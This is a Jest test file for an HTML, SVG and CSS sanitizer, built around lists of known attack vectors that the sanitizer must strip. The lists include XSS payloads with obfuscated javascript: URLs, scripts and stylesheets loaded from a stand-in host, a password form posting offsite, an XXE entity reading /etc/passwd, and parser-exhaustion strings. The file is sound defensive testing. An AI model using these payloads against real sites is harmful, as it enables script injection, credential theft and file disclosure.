/** @jest-environment jsdom */
import { markupProblem, readPage, checkCss, safeHtml, safeSvg } from './index.js';
import { pieceBudget } from './budget.js';

/** What of markup could run or load, once a browser has read it. */
function dangersOf(markup: string): string[] {
  const host = document.createElement('div');
  host.innerHTML = markup;
  const dangers: string[] = [];
  for (const node of host.querySelectorAll('*')) {
    const name = node.localName.toLowerCase();
    if (
      /^(script|style|iframe|frame|object|embed|applet|link|meta|base|form|input|button|textarea|select|template|noscript|foreignobject|use|image|animate|animatetransform|animatemotion|set|handler|listener|video|audio|source|math|annotation-xml|portal|marquee|isindex|dialog)$/.test(
        name,
      )
    )
      dangers.push(name);
    for (const { name: attribute, value } of node.attributes) {
      if (/^on/i.test(attribute)) dangers.push(attribute);
      if (
        /^(style|srcdoc|formaction|action|ping|background|xlink:href|srcset|poster|manifest|attributename)$/i.test(
          attribute,
        )
      )
        dangers.push(attribute);
      const plain = value.replace(/[^!-~]/g, '').toLowerCase();
      if (/^(href|src)$/i.test(attribute) && /^(javascript|vbscript|data|blob|file):/.test(plain))
        dangers.push(`${attribute}=${value}`);
      if (/url\((?!#)|javascript:|expression\(/.test(plain)) dangers.push(`${attribute}=${value}`);
    }
  }
  return dangers;
}

test('the test itself sees what could run', () => {
  expect(
    dangersOf('<img src=x onerror=alert(1)><a href="jAva\tscript:alert(1)">x</a><svg><use href="#a"/></svg>'),
  ).toHaveLength(4);
});

const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://bad.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img src=`x` onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://bad.example/x 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="x" onclick=alert(1)>x</a>',
  '<a href="https://a.example" ping="https://bad.example">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "https://bad.example/x.css"</style>',
  '<link rel=stylesheet href="https://bad.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://bad.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://bad.example/x.swf">',
  '<form action="https://bad.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p><!--[if gte IE 4]><script>alert(1)</script><![endif]--></p>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
];

const drawings = [
  '<svg onload="alert(1)"><path d="M0 0"/></svg>',
  '<svg><script>alert(1)</script><path d="M0 0"/></svg>',
  '<svg><script href="https://bad.example/x.js"/><path d="M0 0"/></svg>',
  '<svg><script xlink:href="data:text/javascript,alert(1)"/><path d="M0 0"/></svg>',
  '<svg><foreignObject><body onload="alert(1)"/></foreignObject><path d="M0 0"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><path d="M0 0"/></a></svg>',
  '<svg><a href="javascript:alert(1)"><path d="M0 0"/></a></svg>',
  '<svg><use href="https://bad.example/x.svg#a"/><path d="M0 0"/></svg>',
  '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/><path d="M0 0"/></svg>',
  '<svg><image href="https://bad.example/x.png"/><path d="M0 0"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/><path d="M0 0"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/><path d="M0 0"/></svg>',
  '<svg><style>*{background:url(https://bad.example)}</style><path d="M0 0"/></svg>',
  '<svg><path d="M0 0" style="fill:url(https://bad.example#x)"/></svg>',
  '<svg><path d="M0 0" fill="url(https://bad.example#x)"/></svg>',
  '<svg><path d="M0 0" onclick="alert(1)"/></svg>',
  '<svg><filter id="f"><feImage href="https://bad.example"/></filter><path d="M0 0" filter="url(#f)"/></svg>',
  '<svg><handler type="text/javascript">alert(1)</handler><path d="M0 0"/></svg>',
  '<svg><listener event="load" handler="#h"/><path d="M0 0"/></svg>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text><path d="M0 0"/></svg>',
  '<svg><metadata><script>alert(1)</script></metadata><path d="M0 0"/></svg>',
  '<svg><title><script>alert(1)</script></title><path d="M0 0"/></svg>',
  '<svg><path d="M0 0"/></svg><script>alert(1)</script>',
];

const sheets = [
  '@import "https://bad.example/x.css";',
  '@import url(//bad.example/x.css);',
  '.a{background:url(https://bad.example/x.png)}',
  '.a{background:url("javascript:alert(1)")}',
  '.a{background:image-set("https://bad.example/x.png" 1x)}',
  '.a{background:-webkit-image-set(url(https://bad.example/x.png) 1x)}',
  '.a{width:expression(alert(1))}',
  '.a{behavior:url(x.htc)}',
  '.a{-moz-binding:url(https://bad.example/x.xml#x)}',
  '@font-face{font-family:x;src:url(https://bad.example/x.woff2)}',
  '@namespace url(https://bad.example);',
  '.a{--x:url(https://bad.example/x.png);background:var(--x)}',
  '.a{position:fixed;inset:0}',
  '.a{color:red}</style><script>alert(1)</script>',
  '.a{background:u\\72l(https://bad.example/x.png)}',
  '@charset "utf-7";.a{color:red}',
  '.a{cursor:url(https://bad.example/x.cur),auto}',
  '.a{list-style-image:url(https://bad.example/x.png)}',
  '.a{mask:url(https://bad.example/x.svg#m)}',
  '.a{position:FIXED;inset:0}',
  '.a{POSITION:Fixed;inset:0}',
  '.a{position:/**/fixed;inset:0}',
  '.a{posit\\69on:fixed;inset:0}',
  '.a{position:f\\69xed;inset:0}',
  '.a{position:var(--p)}',
  '.a{position:fixed!important}',
  '.a{background:IMAGE-SET("https://bad.example/x.png" 1x)}',
  '.a{background:-WebKit-Image-Set(url(https://bad.example/x.png) 1x)}',
  '.a{background:image("https://bad.example/x.png")}',
  '.a{background:IMAGE("https://bad.example/x.png")}',
  '.a{background:cross-fade(url(https://bad.example/x.png),red)}',
  '.a{background:element(#x)}',
  '.a{background:paint(x)}',
  '.a{background:src("https://bad.example/x.png")}',
  '.a{background:URL(https://bad.example/x.png)}',
  '.a{background:url(data:image/svg+xml,x)}',
  '.a{--x:IMAGE-SET("https://bad.example/x.png" 1x);background:var(--x)}',
  '.a{--x:url(//bad.example/x.png)}',
  '.a{background:var(--none,url(https://bad.example/x.png))}',
  ':host{position:fixed;inset:0}',
  ':HOST{inset:0}',
  ':host(:hover){inset:0}',
  ':host-context(body){inset:0}',
  '.a:is(:host){inset:0}',
  ':h\\6fst{inset:0}',
  '::slotted(*){inset:0}',
  '::part(x){inset:0}',
  '@IMPORT "https://bad.example/x.css";',
  '@\\69mport "https://bad.example/x.css";',
  '@font-FACE{font-family:x;src:url(https://bad.example/x.woff2)}',
  '@property --x{syntax:"*";inherits:false;initial-value:url(https://bad.example)}',
  '@page{margin:0}',
  '@media all{.a{position:FIXED}}',
  '.a{& .b{position:FIXED}}',
  '@media all{'.repeat(1800),
  `.a{width:${'('.repeat(9000)}`,
  `.a{background:${'linear-gradient(red,blue),'.repeat(60)}red}`,
];

test('at least sixty vectors are known', () => {
  expect(markup.length + drawings.length + sheets.length).toBeGreaterThanOrEqual(60);
});

test.each(markup)('markup: %s', (source) => {
  expect(dangersOf(safeHtml(source).text)).toEqual([]);
});

test.each(drawings)('drawing: %s', (source) => {
  const { text } = safeSvg(source);
  expect(dangersOf(text)).toEqual([]);
  expect(text).not.toMatch(/bad\.example|passwd|alert/);
  expect(text).toContain('<path');
});

test.each(sheets)('sheet: %s', (source) => {
  const { css, problems } = checkCss(source);
  expect(css).not.toMatch(
    /bad\.example|@import|expression|behavior|binding|fixed|javascript|<\/style|@font-face|\\|:host|slotted|data:|image\(|image-set|position:var|@page|@property/i,
  );
  expect(problems.length).toBeGreaterThan(0);
});

describe('what is sound stays', () => {
  it('in markup', () => {
    const source =
      '<h2>Hours</h2><p class="note">From <strong>eight</strong>, <a href="/visit">here</a>.</p><img alt="Dome" src="https://a.example/x.png" />';
    expect(safeHtml(source).text).toBe(source);
  });

  it('in drawings, references inside them too', () => {
    const source =
      '<svg viewBox="0 0 9 9"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"></stop></linearGradient></defs><path d="M0 0h9" fill="url(#g)" stroke="currentColor"></path></svg>';
    expect(safeSvg(source).text).toContain('fill="url(#g)" stroke="currentColor"');
    expect(safeSvg(source).text).toContain('<linearGradient id="g">');
  });

  it('in sheets', () => {
    const source = '.r-button:hover{transform:scale(1.02);background:url(asset:0123456789abcdef/full.webp)}';
    expect(checkCss(source)).toEqual({ css: source, problems: [] });
    expect(checkCss('@media (max-width:600px){.box{padding:4px}}').problems).toEqual([]);
  });
});

test.each([
  ['.r-button{colour:red}', /colour is not a property/],
  ['.r-button{color:12px}', /color can’t have that value/],
  ['.nothing{color:red}', /\.nothing reaches nothing/],
  ['body{color:red}', /body reaches nothing/],
  ['#main{color:red}', /#main reaches nothing/],
  ['.r-button{color:red', /^$/],
])('while %s is typed, it is told what is wrong', (source, reason) => {
  const { problems } = checkCss(source, { classes: new Set(['r-button']) });
  expect(problems.map(({ reason: why }) => why).join('; ')).toMatch(reason);
});

test.each([
  ['<b>'.repeat(290_000), /nested more than 128 deep/],
  ['<p>x</p>'.repeat(20_001), /more than 20000 elements/],
  [`<p ${'a '.repeat(200_000)}>`, /more than 100 attributes/],
])('what is too much is not read: %#', (source, reason) => {
  expect(markupProblem(source, pieceBudget)).toMatch(reason);
  expect(safeHtml(source).text).toBe('');
  expect(safeSvg(`<svg>${source}</svg>`).text).toBe('');
});

test('a page’s title and styles are read once through, whatever is left open', () => {
  expect(
    readPage(
      '<title>Home &amp; <b>moor</b></title><style>a{color:red}</style><p style="color:blue">x</p><link rel="preload stylesheet" href="/a.css"><link rel=icon href=/b>',
    ),
  ).toEqual({
    title: 'Home & <b>moor</b>',
    css: 'a{color:red}\n\np{color:blue}',
    sheets: ['/a.css'],
    types: [],
    markers: [],
  });
  for (const open of ['<title', '<style>', '<link ', '<', '&', '<!--'])
    expect(readPage(open.repeat(50_000)).sheets).toEqual([]);
});

test('a sheet can’t end the element it would stand in', () => {
  expect(checkCss('.a{content:"</style><script>alert(1)</script>"}').css).not.toContain('</');
});

test('a problem is found at its line and column', () => {
  const { problems } = checkCss('.a{color:red}\n.b{\n  colour:red;\n}');
  expect(problems).toMatchObject([{ line: 3, column: 3 }]);
});
